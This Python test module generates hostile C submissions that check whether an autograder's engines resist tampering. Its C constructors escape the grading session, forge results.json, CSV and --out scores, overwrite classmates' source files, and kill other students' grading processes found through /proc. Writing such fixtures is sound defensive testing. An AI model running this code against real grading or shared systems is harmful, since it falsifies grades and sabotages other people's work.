"""Hostile submissions aimed at the engines' plumbing rather than at the tests, for 70-instructor.

Each is a reference stage file with one trick appended, a constructor that runs as soon as the
submission's code is loaded, wherever that is. The trick's first comment says what it tries. The
paths it attacks are written into the C, as a student who has read the kit could guess them. Every
process a trick starts records its pid in pid_file (when it can), ends by itself within a few
seconds, and is killed by the suite by that pid afterwards.

  survivor_rewrites(reference, target, forged, ...)   a process that escapes the grading (fork, setsid)
        and, once target appears, rewrites it with forged (results.json after run_autograder, the
        CSV after the batch)
  classmate_attack(reference, victims, kill_marker, csv, ...)   overwrites classmates' heapmgr.c
        files, then lingers: kills every process whose command line holds kill_marker (a
        classmate's grading) and rewrites the CSV once the batch has written it
  forged_scores_at_exit(reference, line)   atexit: rewrites the file after --out and prints line on
        stdout, as the grader's last words
"""
import json

COMMON = r'''
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <dirent.h>

static void attack_pause_ms(long ms)
{
    struct timespec t = { ms / 1000, (ms % 1000) * 1000000L };
    nanosleep(&t, NULL);
}

static void attack_write(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        (void)!write(fd, text, strlen(text));
        close(fd);
    }
}

static int attack_file_holds(const char *path, const char *needle)
{
    char buf[8192];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    return strstr(buf, needle) != NULL;
}

/* Once per suite run (the grader may load the code more than once), then a process of its own,
 * out of the grading's session and process group: returns 1 in that process, 0 in the caller. */
static int attack_escape(const char *once, const char *pid_file)
{
    int fd = open(once, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd < 0)
        return 0;
    close(fd);
    if (fork() != 0)
        return 0;
    setsid();
    if (fork() != 0)
        _exit(0);
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    char line[32];
    snprintf(line, sizeof line, "%ld\n", (long)getpid());
    fd = open(pid_file, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        (void)!write(fd, line, strlen(line));
        close(fd);
    }
    return 1;
}
'''


def c_string(text):
    return json.dumps(text)        # a JSON string is a valid C string literal for these texts


def _with(reference_text, comment, body):
    return reference_text + '\n/* ENGINE ATTACK: ' + comment + ' */\n' + COMMON + body


def survivor_rewrites(reference_text, target, forged, once, pid_file, seconds=12):
    body = f'''
__attribute__((constructor)) static void attack(void)
{{
    if (!attack_escape({c_string(once)}, {c_string(pid_file)}))
        return;
    for (int waited = 0; waited < {seconds * 20}; waited++) {{
        if (access({c_string(target)}, F_OK) == 0) {{
            attack_pause_ms(300);
            attack_write({c_string(target)}, {c_string(forged)});
            _exit(0);
        }}
        attack_pause_ms(50);
    }}
    _exit(0);
}}
'''
    return _with(reference_text, f'a survivor of the grading rewrites {target} once it appears', body)


def classmate_attack(reference_text, victims, kill_marker, csv, forged_csv, once, pid_file, seconds=15):
    writes = '\n'.join(f'    attack_write({c_string(v)}, "#error overwritten by a classmate\\n");' for v in victims)
    body = f'''
static void attack_kill_marked(void)
{{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {{
        char path[300], cmd[4096];
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++)
            if (cmd[i] == '\\0')
                cmd[i] = ' ';
        cmd[n > 0 ? n : 0] = '\\0';
        if (strstr(cmd, {c_string(kill_marker)}) != NULL)
            kill((pid_t)atol(e->d_name), SIGKILL);
    }}
    if (d != NULL)
        closedir(d);
}}

__attribute__((constructor)) static void attack(void)
{{
{writes}
    if (!attack_escape({c_string(once)}, {c_string(pid_file)}))
        return;
    for (int waited = 0; waited < {seconds * 50}; waited++) {{
        attack_kill_marked();
        if (attack_file_holds({c_string(csv)}, "student,")
                && !attack_file_holds({c_string(csv)}, "forged")) {{
            attack_pause_ms(300);
            attack_write({c_string(csv)}, {c_string(forged_csv)});
        }}
        attack_pause_ms(20);
    }}
    _exit(0);
}}
'''
    return _with(reference_text, f'overwrites classmates\' files {victims}, kills the gradings of '
                 f'"{kill_marker}", rewrites {csv} after the batch', body)


def forged_scores_at_exit(reference_text, line):
    body = f'''
static void attack_at_exit(void)
{{
    char args[8192];
    int fd = open("/proc/self/cmdline", O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, args, sizeof args - 1) : -1;
    if (fd >= 0)
        close(fd);
    args[n > 0 ? n : 0] = '\0';
    for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t)strlen(args + i) + 1)
        if (strcmp(args + i, "--out") == 0 && i + 6 < n)
            attack_write(args + i + 6, {c_string(line + chr(10))});
    fputs({c_string(line + chr(10))}, stdout);
    fflush(stdout);
}}

__attribute__((constructor)) static void attack(void)
{{
    atexit(attack_at_exit);
}}
'''
    return _with(reference_text, 'at exit, the scores line forged into the --out file and on stdout', body)
